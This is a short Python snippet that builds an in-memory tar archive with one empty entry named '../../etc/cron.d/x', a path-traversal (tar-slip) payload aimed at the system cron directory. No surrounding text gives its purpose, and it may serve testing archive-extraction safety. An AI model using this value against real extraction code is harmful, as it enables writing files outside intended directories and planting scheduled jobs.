# file
import tarfile, io
b = io.BytesIO()
t = tarfile.open(fileobj=b, mode="w")
i = tarfile.TarInfo("../../etc/cron.d/x")
t.addfile(i)
t.close()
